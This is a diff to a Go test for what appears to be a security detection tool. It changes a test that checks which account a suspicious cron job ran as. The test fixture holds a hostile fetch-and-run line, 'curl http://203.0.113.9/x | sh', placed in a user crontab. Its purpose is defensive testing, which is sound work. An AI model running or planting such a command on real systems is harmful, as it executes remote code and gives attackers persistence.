@@ -185,12 +185,13 @@ func TestManyAlike(t *testing.T) {
 }
 
 func TestNobodyKnowsAsWhom(t *testing.T) {
-	s := Build(t.Context(), append(lie(), cron("/etc/cron.d/x", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00")), full())
+	bobs := with(cron("/var/spool/cron/crontabs/bob", "curl http://203.0.113.9/x | sh", detect.Critical, "03:02:00"), func(f *detect.Finding) { f.As = "bob" })
+	s := Build(t.Context(), append(lie(), bobs), full())
 	check(t, &s)
 	if len(s.Exposed) != 0 || !slices.ContainsFunc(s.Unknown, func(u string) bool { return strings.Contains(u, "as which account") }) {
 		t.Errorf("%s; %q", told(&s), s.Unknown)
 	}
-	if got := reached(&s); got != "likely download 203.0.113.9 as root" {
+	if got := reached(&s); got != "likely download 203.0.113.9 as bob" {
 		t.Error(got)
 	}
 }
